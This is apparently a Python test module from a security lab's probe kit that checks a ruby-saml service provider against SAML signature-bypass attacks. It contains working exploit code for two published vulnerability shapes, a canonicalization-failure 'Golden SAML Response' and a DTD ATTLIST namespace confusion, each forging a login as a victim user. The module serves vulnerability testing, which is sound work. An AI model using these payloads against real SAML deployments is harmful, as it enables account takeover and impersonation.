"""Truth probe for the lab's ruby-saml SP (run: python -m lab.probekit --target ruby-saml).

SP-initiated login at the Rack app's /login (Authrequest#create), the Response signed by the
probe's own IdP posted to /acs (Response#is_valid?), then /whoami."""
from __future__ import annotations

from lab.probekit import ProbeContext, SPPaths, attempt, standard_cases


def run(ctx: ProbeContext) -> None:
    paths = SPPaths(login="/login", acs="/acs", whoami="/whoami", entity_id=f"{ctx.base_url}/metadata")
    standard_cases(ctx, paths)
    void_canonicalization(ctx, paths)
    void_canonicalization(ctx, paths, key="bad-namespace-char-takeover", at=b"<saml:Assertion ",
                          marker='<saml:Assertion xmlns:x="http://example.com\u0080" '.encode(),
                          what="a namespace URI with U+0080 on the Assertion")
    attlist_namespace_confusion(ctx, paths)


def void_canonicalization(ctx: ProbeContext, paths: SPPaths, *, key: str = "void-canonicalization-takeover",
                          marker: bytes = b'<samlp:Response xmlns:ns="1" ', at: bytes = b"<samlp:Response ",
                          what: str = "relative namespace URI on the Response") -> None:
    """The "Golden SAML Response" (CVE-2025-66568 shape, PortSwigger "The Fragile Lock"): a relative
    namespace URI on the Response makes canonicalization fail into the empty string; the Assertion
    names a victim; every DigestValue is SHA-256("") and the SignatureValue is the IdP's signature of
    "". A verifier that digests and verifies what its failed canonicalization returned accepts it."""
    import base64
    import hashlib

    import xmlsec
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding
    from lxml import etree

    from lab.probekit import DS, SAML, whoami_email

    victim = ctx.user("victim")

    def golden(root: etree._Element, idp) -> bytes:  # noqa: ANN001
        a = root.find(f"{{{SAML}}}Assertion")
        a.remove(a.find(f"{{{DS}}}Signature"))
        a.find(f".//{{{SAML}}}NameID").text = victim
        for v in a.iter(f"{{{SAML}}}AttributeValue"):
            v.text = victim
        sig = xmlsec.template.create(a, xmlsec.Transform.EXCL_C14N, xmlsec.Transform.RSA_SHA256, ns="ds")
        a.find(f"{{{SAML}}}Issuer").addnext(sig)
        ref = xmlsec.template.add_reference(sig, xmlsec.Transform.SHA256, uri="#" + a.get("ID"))
        xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
        xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
        sig.find(f".//{{{DS}}}DigestValue").text = base64.b64encode(hashlib.sha256(b"").digest()).decode()
        sig.find(f"{{{DS}}}SignatureValue").text = base64.b64encode(
            idp.key.sign(b"", padding.PKCS1v15(), hashes.SHA256())).decode()
        xml = etree.tostring(root)
        return xml.replace(at, marker, 1)

    email, lg = attempt(ctx, paths, "golden-saml", xml_hook=golden)
    seen = whoami_email(lg)
    ctx.fact(key, f"a Golden SAML Response ({what}, "
             "digest and signature of the empty string, Assertion edited to name a victim) signs the victim in "
             f"-- measured: whoami {seen!r} (victim {victim!r})", seen == victim, lg.lines())


def attlist_namespace_confusion(ctx: ProbeContext, paths: SPPaths) -> None:
    """CVE-2025-25292's published shape (GHSL advisory, SAML Raider): no key needed, only one genuine
    signed Response of the attacker's own. The Assertion is edited to name a victim and its
    DigestValue set to SHA-256(""), with a U+0080 namespace URI that makes canonicalization fail into
    ""; the genuine SignedInfo + SignatureValue ride in samlp:StatusDetail inside a namespace-less
    <Signature> that a DTD ATTLIST puts (for one of the two parsers) in the dsig namespace."""
    import base64
    import copy
    import hashlib

    from lxml import etree

    from lab.probekit import DS, SAML, SAMLP, whoami_email

    victim = ctx.user("victim")

    def exploit(root: etree._Element, idp) -> bytes:  # noqa: ANN001 - genuine, signed by the probe IdP
        a = root.find(f"{{{SAML}}}Assertion")
        sig = a.find(f"{{{DS}}}Signature")
        genuine = copy.deepcopy(sig)
        a.find(f".//{{{SAML}}}NameID").text = victim
        for v in a.iter(f"{{{SAML}}}AttributeValue"):
            v.text = victim
        sig.find(f".//{{{DS}}}DigestValue").text = base64.b64encode(hashlib.sha256(b"").digest()).decode()
        detail = etree.SubElement(root.find(f"{{{SAMLP}}}Status"), f"{{{SAMLP}}}StatusDetail")
        bare = etree.SubElement(detail, "Signature")
        for child in genuine:
            bare.append(copy.deepcopy(child))
        xml = etree.tostring(root)
        xml = xml.replace(b"<saml:Assertion ", '<saml:Assertion xmlns:example="http://example.com\u0080" '.encode(), 1)
        return (b'<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED '
                b'"http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>\n' + xml)

    email, lg = attempt(ctx, paths, "attlist", xml_hook=exploit)
    seen = whoami_email(lg)
    ctx.fact("attlist-namespace-confusion-takeover", "CVE-2025-25292 shape, no key needed: the attacker's own "
             "genuine signed Response, its Assertion edited to name a victim, the genuine signature moved into "
             "StatusDetail under a DTD-namespaced <Signature>, signs the victim in "
             f"-- measured: whoami {seen!r} (victim {victim!r})", seen == victim, lg.lines())
